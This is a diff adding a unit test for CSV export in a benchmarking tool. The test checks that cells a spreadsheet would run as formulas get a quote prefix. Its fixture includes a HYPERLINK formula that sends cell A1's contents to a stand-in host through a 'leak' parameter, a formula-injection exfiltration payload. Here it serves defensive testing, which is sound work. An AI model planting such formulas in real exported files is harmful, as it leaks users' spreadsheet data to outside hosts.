@@ -310,3 +310,11 @@ def test_winners_compare_like_with_like_and_int8_is_set_against_its_own_fp32():
     speedup = {r["runner"]: r for r in views.int8_speedup(cases).records()}
     assert speedup["ort"]["speedup"] == 3.0 and speedup["ort"]["int8_accuracy_ok"] is True
     assert speedup["ov"]["speedup"] == round(2.0 / 1.5, 2) and speedup["ov"]["int8_accuracy_ok"] is False
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_inert(tmp_path):
+    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
+    table = views.Table("t", ("model", "median_ms", "note"), [(formula, -1.5, "+1"), ("plain", 2.0, "@SUM(A1)")])
+    rows = read_csv(table.write_csv(tmp_path))
+    assert [r["model"] for r in rows] == ["'" + formula, "plain"]
+    assert rows[0]["median_ms"] == "-1.5" and rows[0]["note"] == "'+1" and rows[1]["note"] == "'@SUM(A1)"
